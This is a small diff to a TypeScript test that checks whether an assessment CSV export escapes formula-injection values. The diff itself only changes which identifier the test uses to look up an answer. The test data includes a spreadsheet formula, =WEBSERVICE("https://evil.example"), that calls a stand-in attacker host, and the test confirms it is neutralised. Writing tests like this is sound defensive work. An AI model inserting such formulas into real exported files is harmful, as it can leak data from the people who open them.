@@ -44,7 +44,7 @@ describe('the downloads use it', () => {
     const standards = assessedStandards(realCatalog().frameworks.get('east-midlands')!.data);
     const first = standards[0]!;
     let assessment = createAssessment('east-midlands', standards);
-    assessment = withAnswer(assessment, first.number, { evidence: '=WEBSERVICE("https://evil.example")', owner: '+44 1234', action: '-1', due: '' });
+    assessment = withAnswer(assessment, first.slug, { evidence: '=WEBSERVICE("https://evil.example")', owner: '+44 1234', action: '-1', due: '' });
     const row = read(assessmentCsv(assessment, standards)).find((r) => r[1] === first.number)!;
     expect(row.slice(4, 8)).toEqual(["'=WEBSERVICE(\"https://evil.example\")", "'-1", '', "'+44 1234"]);
   });
